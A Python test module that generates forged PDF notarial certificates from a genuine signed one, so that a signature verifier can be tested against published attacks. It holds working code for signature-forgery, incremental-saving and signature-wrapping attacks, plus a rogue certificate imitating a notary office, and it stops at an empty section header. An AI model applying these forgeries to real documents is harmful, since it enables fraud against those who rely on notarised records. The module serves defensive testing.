"""An adversarial corpus: forged notarial certificates made at test time from a genuine one.

Each :class:`Forgery` turns the bytes of a genuine, anchored certificate into a forged PDF,
with pyHanko's incremental writer, ``pyhanko.pdf_utils.generic`` objects, or raw byte
surgery where a well-behaved writer cannot produce the attack. The classes follow the
published PDF signature attacks (https://pdf-insecurity.org):

- USF: Universal Signature Forgery (Mladenov et al., CCS 2019): the signature dictionary
  broken so that a validator skips the check, on a document whose page was also changed;
- ISA: Incremental Saving Attack (ibid.): new content in an incremental update, well
  formed or not;
- SWA: Signature Wrapping Attack (ibid.): attacker content in the gap between the signed
  byte ranges while every signed byte is still in the file;
- SHADOW-*: shadow attacks (Mainka et al., NDSS 2021): hide, replace, hide-and-replace;
- EAA and SSA: Evil Annotation and Sneaky Signature attacks (Rohlmann et al., IEEE S&P
  2021);
- META: metadata and structure changes that a pure long-term-validation update never
  contains (DESIGN.md, "Formats").

The verifier must judge every variant FAILED. Where the attack works on the page the
forgery is ``visual``: the tests render page 1 and check that it really looks different,
so the corpus proves its attacks are real and not merely broken files.

Nothing here depends on the page layout: the applicant's name is found on the rendered
page with pdfium's text search (:func:`name_box`), and in the content stream through the
embedded font's /ToUnicode map (:func:`replace_name`).
"""

from __future__ import annotations

import datetime as dt
import functools
import io
import re
from collections.abc import Callable
from dataclasses import dataclass, field

import pypdfium2 as pdfium
from asn1crypto import keys as asn1_keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields, signers
from pyhanko.sign.timestamps import TimeStamper
from pyhanko_certvalidator.registry import SimpleCertificateStore

# ---------------------------------------------------------------------------- expectations

INTEGRITY = "document_integrity"
SIGNATURE_BROKEN = "SIGNATURE_BROKEN"
MODIFIED_AFTER_SIGNING = "MODIFIED_AFTER_SIGNING"
COVERAGE_INCOMPLETE = "COVERAGE_INCOMPLETE"

# An update appended to an intact certification signature: only the rule "nothing but
# LTV data after signing" catches it, and it must say what changed (details["changes"]).
MODIFIED = frozenset({MODIFIED_AFTER_SIGNING})
# The signature dictionary, its byte ranges or the cross-reference data were tampered with
# too: the verifier may notice the broken signature, the coverage or the non-LTV revision
# first. Each is a true description.
ANY_INTEGRITY = frozenset({SIGNATURE_BROKEN, MODIFIED_AFTER_SIGNING, COVERAGE_INCOMPLETE})

USF = "USF"
ISA = "ISA"
SWA = "SWA"
SHADOW_HIDE = "SHADOW-HIDE"
SHADOW_REPLACE = "SHADOW-REPLACE"
SHADOW_HIDE_REPLACE = "SHADOW-HIDE-AND-REPLACE"
EAA = "EAA"
SSA = "SSA"
META = "META"

FORGED_TEXT = "FORGED NAME"
OVERLAY_FONT = "/FXForged"


@dataclass(frozen=True)
class ForgeryContext:
    """What a forger has: the genuine certificate (``name`` is the applicant's name on it,
    ``replacement`` a character drawn elsewhere on the page, so in the embedded font
    subset), their own key (a self-signed certificate in the office's name), and a public
    RFC 3161 TSA, which timestamps anything for anyone."""

    rogue_signer: signers.SimpleSigner
    tsa: TimeStamper | None = None
    name: str = "张明"
    replacement: str = "李"
    forged_text: str = FORGED_TEXT


@dataclass(frozen=True)
class Forgery:
    name: str
    attack_class: str
    build: Callable[[bytes, ForgeryContext], bytes] = field(repr=False)
    expected_codes: frozenset[str] = MODIFIED
    check: str = INTEGRITY
    # The forged page looks different in pdfium: the tests compare renderings of page 1.
    # False for attacks on metadata/behaviour, and for structural tricks that target
    # viewers other than pdfium (said in the variant's docstring).
    visual: bool = True
    # Drawn by a form field's widget: a viewer with forms support shows it; pdfium only with
    # its form environment initialised (``init_forms``), which tests.pdf_tools does not do.
    forms: bool = False
    # Allowed to be refused with a VerifierError (a 4xx) instead of FAILED. Only for a file
    # that no viewer opens: a forged document that opens in a viewer must be FAILED, never
    # refused as "not a PDF". Every variant below opens in pdfium (the tests check it), so
    # none is allowed; an entry set to True needs a comment saying why.
    may_refuse: bool = False


def make_context(tsa: TimeStamper | None = None, office_name: str = "上海市东方公证处", name: str = "张明",
                 replacement: str = "李") -> ForgeryContext:
    """A rogue signer: a fresh EC key and a self-signed certificate that copies the office's
    name, made with ``cryptography`` and handed to pyHanko as a SimpleSigner."""
    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([
        x509.NameAttribute(NameOID.COUNTRY_NAME, "CN"),
        x509.NameAttribute(NameOID.ORGANIZATION_NAME, office_name),
        x509.NameAttribute(NameOID.COMMON_NAME, office_name),
    ])
    now = dt.datetime.now(dt.timezone.utc)
    cert = (
        x509.CertificateBuilder().subject_name(subject).issuer_name(subject).public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1)).not_valid_after(now + dt.timedelta(days=365))
        .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
        .add_extension(x509.KeyUsage(digital_signature=True, content_commitment=True, key_encipherment=False,
                                     data_encipherment=False, key_agreement=False, key_cert_sign=False,
                                     crl_sign=False, encipher_only=False, decipher_only=False), critical=True)
        .sign(key, hashes.SHA256())
    )
    asn1_cert = asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER))
    asn1_key = asn1_keys.PrivateKeyInfo.load(key.private_bytes(
        serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    signer = signers.SimpleSigner(asn1_cert, asn1_key, SimpleCertificateStore.from_certs([asn1_cert]))
    return ForgeryContext(rogue_signer=signer, tsa=tsa, name=name, replacement=replacement)


# ------------------------------------------------------------------- finding the name

@functools.lru_cache(maxsize=8)
def name_box(pdf: bytes, name: str) -> tuple[float, float, float, float]:
    """(x0, y0, x1, y1) in PDF units around the first occurrence of ``name`` on page 1,
    with a margin and room for :data:`FORGED_TEXT`."""
    doc = pdfium.PdfDocument(pdf)
    try:
        text = doc[0].get_textpage()
        hit = text.search(name).get_next()
        if not hit:
            raise LookupError(f"{name!r} is not on page 1")
        start, count = hit
        boxes = [text.get_charbox(i) for i in range(start, start + count)]
    finally:
        doc.close()
    x0, y0 = min(b[0] for b in boxes), min(b[1] for b in boxes)
    x1, y1 = max(b[2] for b in boxes), max(b[3] for b in boxes)
    return round(x0 - 6, 2), round(y0 - 6, 2), round(max(x1 + 6, x0 + 90), 2), round(y1 + 6, 2)


def _box(pdf: bytes, ctx: ForgeryContext) -> tuple[float, float, float, float]:
    return name_box(pdf, ctx.name)


def _unicode_map(font) -> dict[str, bytes]:
    """Character -> code in a font, from its /ToUnicode CMap (bfchar and bfrange)."""
    try:
        data = font["/ToUnicode"].data.decode("latin-1")
    except (KeyError, AttributeError, TypeError):
        return {}
    out: dict[str, bytes] = {}
    for block in re.findall(r"beginbfchar(.*?)endbfchar", data, re.S):
        for src, dst in re.findall(r"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", block):
            out.setdefault(bytes.fromhex(dst).decode("utf-16-be", "replace"), bytes.fromhex(src))
    for block in re.findall(r"beginbfrange(.*?)endbfrange", data, re.S):
        for lo, hi, dst in re.findall(r"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", block):
            first = int(dst, 16)
            for k, code in enumerate(range(int(lo, 16), int(hi, 16) + 1)):
                out.setdefault(chr(first + k), code.to_bytes(len(lo) // 2, "big"))
    return out


_TF = re.compile(rb"/([^\s/\[\]()<>{}%]+)\s+[-+\d.]+\s+Tf")
_ESCAPES = {ord("n"): b"\n", ord("r"): b"\r", ord("t"): b"\t", ord("b"): b"\b", ord("f"): b"\f"}


def _literal_end(data: bytes, i: int) -> int:
    depth, j = 0, i
    while j < len(data):
        ch = data[j]
        if ch == 0x5C:
            j += 2
            continue
        if ch == 0x28:
            depth += 1
        elif ch == 0x29:
            depth -= 1
            if depth == 0:
                return j + 1
        j += 1
    raise ValueError("unterminated string")


def _decode_literal(raw: bytes) -> bytes:
    out, i = bytearray(), 0
    while i < len(raw):
        ch = raw[i]
        if ch != 0x5C:
            out.append(ch)
            i += 1
            continue
        nxt = raw[i + 1]
        if 0x30 <= nxt <= 0x37:
            m = re.match(rb"[0-7]{1,3}", raw[i + 1:i + 4])
            out.append(int(m.group(0), 8) & 0xFF)
            i += 1 + len(m.group(0))
        elif nxt in _ESCAPES:
            out += _ESCAPES[nxt]
            i += 2
        elif nxt in (0x0A, 0x0D):
            i += 3 if raw[i + 1:i + 3] == b"\r\n" else 2
        else:
            out.append(nxt)
            i += 2
    return bytes(out)


def _strings(content: bytes):
    """(start, end, font resource name, decoded bytes) of every string operand."""
    font, pos, n = None, 0, len(content)
    while pos < n:
        lit = content.find(b"(", pos)
        hexs = content.find(b"<", pos)
        while hexs >= 0 and content[hexs + 1:hexs + 2] == b"<":
            hexs = content.find(b"<", hexs + 2)
        starts = [s for s in (lit, hexs) if s >= 0]
        start = min(starts) if starts else n
        for m in _TF.finditer(content, pos, start):
            font = "/" + m.group(1).decode("latin-1")
        if start >= n:
            return
        if content[start] == 0x28:
            end = _literal_end(content, start)
            decoded = _decode_literal(content[start + 1:end - 1])
        else:
            end = content.index(b">", start) + 1
            digits = re.sub(rb"\s", b"", content[start + 1:end - 1])
            decoded = bytes.fromhex((digits + b"0" * (len(digits) % 2)).decode())
        yield start, end, font, decoded
        pos = end


def replace_name(content: bytes, fonts: dict[str, dict[str, bytes]], name: str, replacement: str) -> bytes:
    """``content`` with the first character of the first drawn ``name`` replaced by the
    glyph of ``replacement`` (张明 -> 李明) in the same embedded font: a changed name that
    looks typeset by the office. Raises LookupError when the name is not drawn."""
    fallback = None
    for start, end, font, decoded in _strings(content):
        cmap = fonts.get(font or "", {})
        if name[0] not in cmap:
            continue
        whole = b"".join(cmap.get(ch, b"?") for ch in name)
        if whole in decoded or fallback is None and cmap[name[0]] in decoded:
            new_code = cmap.get(replacement) or next(
                (code for ch, code in cmap.items() if ch not in name and "\u4e00" <= ch <= "\u9fff"), None)
            if new_code is None:
                continue
            at = decoded.find(whole) if whole in decoded else decoded.find(cmap[name[0]])
            new = decoded[:at] + new_code + decoded[at + len(cmap[name[0]]):]
            replaced = content[:start] + b"(" + b"".join(b"\\%03o" % x for x in new) + b")" + content[end:]
            if whole in decoded:
                return replaced
            fallback = replaced
    if fallback is None:
        raise LookupError(f"{name!r} is not drawn in any content stream string")
    return fallback


# ------------------------------------------------------------------------------- helpers

def _update(pdf: bytes, edit: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """One incremental update written by pyHanko (which, like every pyHanko update, also
    refreshes the /Info and XMP modification dates)."""
    w = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    edit(w)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _reader(pdf: bytes) -> PdfFileReader:
    return PdfFileReader(io.BytesIO(pdf), strict=False)


def _page(handler) -> tuple[generic.IndirectObject, generic.DictionaryObject]:
    ref, _ = handler.find_page_for_modification(0)
    return ref, ref.get_object()


def _page_fonts(page) -> dict[str, dict[str, bytes]]:
    try:
        fonts = page["/Resources"]["/Font"]
    except KeyError:
        return {}
    return {str(k): _unicode_map(fonts[k]) for k in fonts.keys()}


def _content_refs(page) -> list[generic.IndirectObject]:
    contents = page.raw_get("/Contents")
    if isinstance(contents, generic.IndirectObject) and isinstance(contents.get_object(), generic.ArrayObject):
        contents = contents.get_object()
    if isinstance(contents, generic.ArrayObject):
        return [contents.raw_get(i) for i in range(len(contents))]
    return [contents]


def page_content(handler) -> bytes:
    """The decoded content of page 1 (of a reader, a writer, or PDF bytes)."""
    if isinstance(handler, bytes):
        handler = _reader(handler)
    return b"\n".join(ref.get_object().data for ref in _content_refs(_page(handler)[1]))


def _name_replaced_stream(handler, ctx: ForgeryContext) -> tuple[generic.IndirectObject, bytes]:
    """The content stream of page 1 that draws the name, and its data with the name
    replaced (see :func:`replace_name`)."""
    page = _page(handler)[1]
    fonts = _page_fonts(page)
    for ref in _content_refs(page):
        try:
            return ref, replace_name(ref.get_object().data, fonts, ctx.name, ctx.replacement)
        except LookupError:
            continue
    raise LookupError(f"{ctx.name!r} is not drawn on page 1")


def _sig_field(w) -> tuple[generic.IndirectObject, generic.DictionaryObject]:
    for ref in w.root["/AcroForm"]["/Fields"]:
        fld = ref.get_object()
        if fld.get("/FT") == "/Sig" and "/V" in fld:
            return ref, fld
    raise LookupError("no signed signature field")


def _numbers(values) -> generic.ArrayObject:
    return generic.ArrayObject(generic.FloatObject(v) if isinstance(v, float) else generic.NumberObject(v)
                               for v in values)


def _helvetica() -> generic.DictionaryObject:
    return generic.DictionaryObject({
        pdf_name("/Type"): pdf_name("/Font"), pdf_name("/Subtype"): pdf_name("/Type1"),
        pdf_name("/BaseFont"): pdf_name("/Helvetica"), pdf_name("/Encoding"): pdf_name("/WinAnsiEncoding"),
    })


def _text(text: str) -> bytes:
    return b"(" + text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1") + b")"


def white_box_ops(box) -> bytes:
    x0, y0, x1, y1 = box
    return f"q 1 1 1 rg {x0} {y0} {x1 - x0:.2f} {y1 - y0:.2f} re f Q\n".encode()


def overlay_ops(box, text: str = FORGED_TEXT, font: str = OVERLAY_FONT) -> bytes:
    """Page content that paints an opaque white box over ``box`` and writes ``text`` in it
    (``font`` must be in the page's font resources)."""
    x0, y0, _, y1 = box
    return white_box_ops(box) + f"BT 0 0 0 rg {font} 12 Tf 1 0 0 1 {x0 + 5} {y0 + (y1 - y0) / 2 - 4:.2f} Tm ".encode() \
        + _text(text) + b" Tj ET\n"


def _append_overlay(w, pdf: bytes, ctx: ForgeryContext) -> None:
    """Draw the overlay on top of page 1: a new content stream appended to /Contents, and
    a Helvetica font added to the page's resources."""
    stream = w.add_object(generic.StreamObject(stream_data=overlay_ops(_box(pdf, ctx), ctx.forged_text)))
    w.add_stream_to_page(0, stream, resources=generic.DictionaryObject({
        pdf_name("/Font"): generic.DictionaryObject({pdf_name(OVERLAY_FONT): _helvetica()})}))


def _appearance(w, box, text: str = FORGED_TEXT) -> generic.IndirectObject:
    """A form XObject of the size of ``box``: white, opaque, with ``text`` written in it."""
    x0, y0, x1, y1 = box
    width, height = round(x1 - x0, 2), round(y1 - y0, 2)
    ops = f"1 1 1 rg 0 0 {width} {height} re f BT 0 0 0 rg /Helv 12 Tf 5 {height / 2 - 4:.2f} Td ".encode() \
        + _text(text) + b" Tj ET"
    stream = generic.StreamObject({
        pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
        pdf_name("/BBox"): _numbers([0, 0, width, height]),
        pdf_name("/Resources"): generic.DictionaryObject({
            pdf_name("/Font"): generic.DictionaryObject({pdf_name("/Helv"): _helvetica()})}),
    }, stream_data=ops)
    return w.add_object(stream)


def _add_annotation(w, annot: generic.DictionaryObject, *, field_too: bool = False) -> generic.IndirectObject:
    """Append an annotation to page 1 (and, for a form field, to /AcroForm /Fields)."""
    page_ref, page = _page(w)
    annot[pdf_name("/P")] = page_ref
    ref = w.add_object(annot)
    raw = page.raw_get("/Annots") if "/Annots" in page else None
    if isinstance(raw, generic.IndirectObject):
        raw.get_object().append(ref)
        w.mark_update(raw)
    else:
        page[pdf_name("/Annots")] = generic.ArrayObject(list(raw or []) + [ref])
        w.mark_update(page_ref)
    if field_too:
        form = w.root["/AcroForm"]
        form["/Fields"].append(ref)
        w.update_container(form)
    return ref


def _serialise(obj: generic.PdfObject) -> bytes:
    buf = io.BytesIO()
    obj.write_to_stream(buf, None)
    return buf.getvalue()


def _raw_stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _xref_table(offsets: dict[int, int]) -> bytes:
    out = [b"xref\n0 1\n0000000000 65535 f \n"]
    nums = sorted(n for n in offsets if n != 0)
    i = 0
    while i < len(nums):
        j = i
        while j + 1 < len(nums) and nums[j + 1] == nums[j] + 1:
            j += 1
        out.append(b"%d %d\n" % (nums[i], j - i + 1))
        out.extend(b"%010d 00000 n \n" % offsets[n] for n in nums[i:j + 1])
        i = j + 1
    return b"".join(out)


@dataclass
class _Base:
    """What a hand-written incremental update needs to know about the file it extends."""

    size: int
    prev: int
    root: int
    info: int | None
    ids: bytes

    @classmethod
    def of(cls, pdf: bytes) -> _Base:
        r = _reader(pdf)
        info = r.trailer.raw_get("/Info") if "/Info" in r.trailer else None
        ids = _serialise(r.trailer.raw_get("/ID")) if "/ID" in r.trailer else b""
        return cls(int(r.trailer["/Size"]), r.last_startxref, r.trailer.raw_get("/Root").idnum,
                   info.idnum if info is not None else None, ids)

    def trailer(self, size: int, *, prev: int | None = None, root: int | None = None, extra: bytes = b"",
                with_prev: bool = True) -> bytes:
        parts = [b"/Size %d" % size, b"/Root %d 0 R" % (root or self.root)]
        if with_prev:
            parts.append(b"/Prev %d" % (self.prev if prev is None else prev))
        if self.info is not None:
            parts.append(b"/Info %d 0 R" % self.info)
        if self.ids:
            parts.append(b"/ID " + self.ids)
        return b"trailer\n<< " + b" ".join(parts) + b" " + extra + b">>\n"


def _append_objects(pdf: bytes, objects: dict[int, bytes]) -> tuple[bytearray, dict[int, int]]:
    out = bytearray(pdf)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = {}
    for num, body in objects.items():
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    return out, offsets


def _raw_revision(pdf: bytes, objects: dict[int, bytes], *, root: int | None = None) -> bytes:
    """Append ``objects`` (number -> body) as a hand-written incremental update: the
    objects, a classic xref table, trailer, startxref."""
    base = _Base.of(pdf)
    out, offsets = _append_objects(pdf, objects)
    at = len(out)
    out += _xref_table(offsets)
    out += base.trailer(max(base.size, max(offsets) + 1), root=root)
    out += b"startxref\n%d\n%%%%EOF\n" % at
    return bytes(out)


def _forged_content_object(pdf: bytes, ctx: ForgeryContext) -> tuple[int, bytes]:
    """The number of the content stream that draws the name, and a same-numbered body that
    draws it with the name replaced (uncompressed; no new resources needed)."""
    ref, data = _name_replaced_stream(_reader(pdf), ctx)
    return ref.idnum, _raw_stream(data)


# ------------------------------------------------------------------------------- USF

def _usf(mutate: Callable[[generic.DictionaryObject, int], None]):
    """Page changed, and in the same update the signature dictionary (same object number)
    replaced by a copy broken by ``mutate(sig, file_length)``."""

    def build(pdf: bytes, ctx: ForgeryContext) -> bytes:
        def edit(w):
            _append_overlay(w, pdf, ctx)
            _, fld = _sig_field(w)
            sig_ref = fld.raw_get("/V")
            sig = generic.DictionaryObject(sig_ref.get_object())
            mutate(sig, len(pdf))
            w.objects[(0, sig_ref.idnum)] = sig
        return _update(pdf, edit)

    return build


def _set(key: str, value_of: Callable[[generic.DictionaryObject, int], generic.PdfObject]):
    def mutate(sig, n):
        sig[pdf_name(key)] = value_of(sig, n)
    return mutate


def _delete(key: str):
    def mutate(sig, n):
        del sig[key]
    return mutate


def _usf_copy_in_new_field(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """A second copy of the (valid) signature dictionary, in a new signature field, on a
    changed page: a validator that checks any one signature it finds sees a valid one."""
    def edit(w):
        _append_overlay(w, pdf, ctx)
        _, fld = _sig_field(w)
        copy = w.add_object(generic.DictionaryObject(fld["/V"]))
        _add_annotation(w, generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/Widget"),
            pdf_name("/FT"): pdf_name("/Sig"), pdf_name("/T"): pdf_string("NotarySignature2"),
            pdf_name("/F"): generic.NumberObject(132), pdf_name("/Rect"): _numbers([0, 0, 0, 0]),
            pdf_name("/V"): copy,
        }), field_too=True)
    return _update(pdf, edit)


def _usf_copy_rebound(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """The signature field's /V pointed at an identical copy of the signature dictionary
    written in the update, so the dictionary read is not the signed one."""
    def edit(w):
        _append_overlay(w, pdf, ctx)
        ref, fld = _sig_field(w)
        fld[pdf_name("/V")] = w.add_object(generic.DictionaryObject(fld["/V"]))
        w.mark_update(ref)
    return _update(pdf, edit)


def _usf_docmdp_removed(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """The certification's /Reference (DocMDP, P=1) removed from the signature dictionary
    and /Perms from the catalog: it now reads as an approval signature that permits
    annotations, and one is added."""
    def edit(w):
        _, fld = _sig_field(w)
        sig_ref = fld.raw_get("/V")
        sig = generic.DictionaryObject(sig_ref.get_object())
        sig.pop("/Reference", None)
        w.objects[(0, sig_ref.idnum)] = sig
        if "/Perms" in w.root:
            del w.root["/Perms"]
            w.update_root()
        box = _box(pdf, ctx)
        _add_annotation(w, generic.DictionaryObject({
            pdf_name("/Type"): pdf_name("/Annot"), pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): _numbers(box), pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/Contents"): pdf_string(ctx.forged_text), pdf_name("/DA"): pdf_string("/Helv 12 Tf 0 g"),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): _appearance(w, box, ctx.forged_text)}),
        }))
    return _update(pdf, edit)


# ------------------------------------------------------------------------------- ISA

def _isa_append(pdf: bytes, ctx: ForgeryContext) -> bytes:
    return _update(pdf, lambda w: _append_overlay(w, pdf, ctx))


def _isa_replace_contents(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """The page's /Contents pointed at a new stream: the original with the name replaced."""
    def edit(w):
        page_ref, page = _page(w)
        ref, data = _name_replaced_stream(w, ctx)
        new = b"\n".join(data if r.idnum == ref.idnum else r.get_object().data for r in _content_refs(page))
        page[pdf_name("/Contents")] = w.add_object(generic.StreamObject(stream_data=new))
        w.mark_update(page_ref)
    return _update(pdf, edit)


def _isa_no_xref(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """The content stream redefined after %%EOF with no xref, trailer or startxref. A viewer
    that does not find startxref near the end rebuilds the cross-reference table by
    scanning (the last definition wins): pdfium does, and shows the forged name."""
    num, body = _forged_content_object(pdf, ctx)
    return bytes(_append_objects(pdf, {num: body})[0])


def _isa_old_startxref(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """Objects, an xref table and a trailer appended, and then the *old* startxref again:
    the file ends exactly as the signed one did, a reader following startxref sees the
    signed revision, a reader that takes the last xref or trailer keyword (or repairs)
    sees the forged one. pdfium follows startxref."""
    base = _Base.of(pdf)
    num, body = _forged_content_object(pdf, ctx)
    out, offsets = _append_objects(pdf, {num: body})
    out += _xref_table(offsets) + base.trailer(base.size)
    out += b"startxref\n%d\n%%%%EOF\n" % base.prev
    return bytes(out)


def _smuggled_in_dss_update(pdf: bytes, ctx: ForgeryContext, startxref_delta: int) -> bytes:
    """A genuine-looking DSS update (pyHanko's ``add_dss``, with the certificates the
    signature carries) with one extra, unlisted object in its body: a same-numbered
    definition of the content stream that draws the name, just before the xref table.

    To a reader that follows the xref chain the revision holds DSS data only. With
    ``startxref_delta`` the final startxref points that many bytes past the ``xref``
    keyword: pyHanko silently corrects it ("off-by-one" recovery) and still sees the DSS
    update, while pdfium (Chrome's viewer) finds no xref there, rebuilds the table by
    scanning the file, and the last definition of the content stream, the forged one,
    wins. With 0, only viewers that always rebuild (or scan for objects) are fooled."""
    from pyhanko.sign.validation.dss import DocumentSecurityStore

    sig = _reader(pdf).embedded_signatures[0]
    certs = [c.chosen for c in sig.signed_data["certificates"]]
    out = io.BytesIO(pdf)
    DocumentSecurityStore.add_dss(out, sig.sig_object["/Contents"], certs=certs, strict=False)
    tail = out.getvalue()[len(pdf):]
    xref_at = tail.rindex(b"\nxref\n") + 1
    num, body = _forged_content_object(pdf, ctx)
    smuggled = b"%d 0 obj\n" % num + body + b"\nendobj\n"
    tail = tail[:xref_at] + smuggled + tail[xref_at:]
    pointer = len(pdf) + xref_at + len(smuggled) + startxref_delta
    tail, n = re.subn(rb"startxref\s+\d+\s+%%EOF\s*$", b"startxref\n%d\n%%%%EOF\n" % pointer, tail)
    if n != 1:
        raise LookupError("unexpected end of the DSS update")
    return pdf + tail


def _isa_bad_prev(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """A proper update whose trailer /Prev points into the middle of the first revision
    instead of the previous xref: the chain of revisions is broken, and viewers rebuild
    the table by scanning (the forged, last definitions win)."""
    forged = _isa_replace_contents(pdf, ctx)
    head, tail = forged[:len(pdf)], forged[len(pdf):]
    tail, n = re.subn(rb"/Prev \d+", b"/Prev %d" % (len(pdf) // 4), tail)
    if n != 1:
        raise LookupError("no /Prev in the update's trailer")
    return head + tail


def _isa_no_prev(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """An update whose xref lists every object (the signed ones at their old offsets, the
    content stream at the forged one) and whose trailer has no /Prev: to a reader the file
    has a single revision, which the signature does not cover."""
    r = _reader(pdf)
    base = _Base.of(pdf)
    last = r.xrefs.total_revisions - 1
    offsets: dict[int, int] = {}
    for rev in range(last + 1):
        for ref in r.xrefs.explicit_refs_in_revision(rev):
            pos = r.xrefs.get_historical_ref(ref, last)
            if isinstance(pos, int):
                offsets[ref.idnum] = pos
    num, body = _forged_content_object(pdf, ctx)
    out, new = _append_objects(pdf, {num: body})
    offsets.update(new)
    at = len(out)
    out += _xref_table(offsets) + base.trailer(base.size, with_prev=False)
    out += b"startxref\n%d\n%%%%EOF\n" % at
    return bytes(out)


def _isa_generation_bump(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """The content stream redefined as generation 1 (``N 1 obj``) while the page still
    refers to ``N 0 R``: readers that ignore generation numbers show the forgery."""
    num, body = _forged_content_object(pdf, ctx)
    base = _Base.of(pdf)
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    at_obj = len(out)
    out += b"%d 1 obj\n" % num + body + b"\nendobj\n"
    at = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00001 n \n" % (num, at_obj)
    out += base.trailer(base.size) + b"startxref\n%d\n%%%%EOF\n" % at
    return bytes(out)


def _isa_new_root(pdf: bytes, ctx: ForgeryContext) -> bytes:
    """A new catalog (trailer /Root) with a new page tree and a new page; the old catalog,
    pages and signature are all still there, unchanged."""
    base = _Base.of(pdf)
    r = _reader(pdf)
    page = _page(r)[1]
    n = base.size
    cat, pages, newpage, content = n, n + 1, n + 2, n + 3
    new_page = generic.DictionaryObject({k: page.raw_get(k) for k in page.keys()
                                         if k not in ("/Parent", "/Contents", "/Annots")})
    if "/Resources" not in new_page:
        new_page[pdf_name("/Resources")] = page["/Resources"]
    page_body = _serialise(new_page)[:-2] + b" /Parent %d 0 R /Contents %d 0 R >>" % (pages, content)
    catalog = generic.DictionaryObject({k: r.root.raw_get(k) for k in r.root.keys() if k != "/Pages"})
    cat_body = _serialise(catalog)[:-2] + b" /Pages %d 0 R >>" % pages
    _, data = _name_replaced_stream(r, ctx)
    objects = {
        cat: cat_body,
        pages: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % newpage,
        newpage: page_body,
        content: _raw_stream(data),
    }
    return _raw_revision(pdf, objects, root=cat)


# ------------------------------------------------------------------------------- SWA

def _swa(pdf: bytes, ctx: ForgeryContext, *, redefine_sig: bool) -> bytes:
    """Attacker objects inserted in the gap between the two signed ranges, right after the
    original /Contents value; the second signed range moves back by as many bytes, and a
    closing xref maps the page content to the forged object in the gap.

    ``redefine_sig``: the signed bytes stay byte for byte as they were (the digest over
    the ranges is still the signed one); the signature dictionary is redefined in the gap
    with /ByteRange [0 b c' d] pointing at the moved second range. Otherwise the
    /ByteRange inside the second range is patched in place (same width)."""
    r = _reader(pdf)
    sig = r.embedded_signatures[0]
    a, b, c, d = sig.byte_range
    p1, gap, p2 = pdf[:b], pdf[b:c], pdf[c:c + d]
    num, body = _forged_content_object(pdf, ctx)
    x = bytearray(b"\n")
    in_x = {num: len(x)}
    x += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    if redefine_sig:
        sig_ref = sig.sig_field.raw_get("/V")
        copy = generic.DictionaryObject(sig.sig_object)
        guess = c
        for _ in range(5):  # c' depends on the dictionary's length, which depends on c'
            copy[pdf_name("/ByteRange")] = _numbers([0, b, guess, d])
            obj = b"%d 0 obj\n" % sig_ref.idnum + _serialise(copy) + b"\nendobj\n"
            new_c = b + len(gap) + len(x) + len(obj)
            if new_c == guess:
                break
            guess = new_c
        in_x[sig_ref.idnum] = len(x)
        x += obj
        new_p2 = p2
    else:
        old = re.search(rb"/ByteRange \[[^\]]*\] *", p2)
        new = b"/ByteRange [%d %d %d %d]" % (a, b, c + len(x), d)
        if old is None or len(new) > len(old.group(0)):
            raise LookupError("no room to patch /ByteRange")
        new_p2 = p2[:old.start()] + new.ljust(len(old.group(0))) + p2[old.end():]
    shift = len(x)
    # Objects of the signed revision at or after c moved back by `shift`: the closing xref
    # re-points them. Revisions after the signed one (B-LTA) are dropped.
    signed = pdf[:c + d]
    rs = _reader(signed)
    last = rs.xrefs.total_revisions - 1
    offsets = {n: b + len(gap) + off for n, off in in_x.items()}
    for rev in range(last + 1):
        for ref in rs.xrefs.explicit_refs_in_revision(rev):
            pos = rs.xrefs.get_historical_ref(ref, last)
            if isinstance(pos, int) and pos >= c and ref.idnum not in offsets:
                offsets[ref.idnum] = pos + shift
    base = _Base.of(signed)
    out = bytearray(p1 + gap + bytes(x) + new_p2)
    if not out.endswith(b"\n"):
        out += b"\n"
    at = len(out)
    out += _xref_table(offsets) + base.trailer(base.size, prev=base.prev + shift)
    out += b"startxref\n%d\n%%%%EOF\n" % at
    return bytes(out)


# ----------------------------------------------------------------------------- shadow

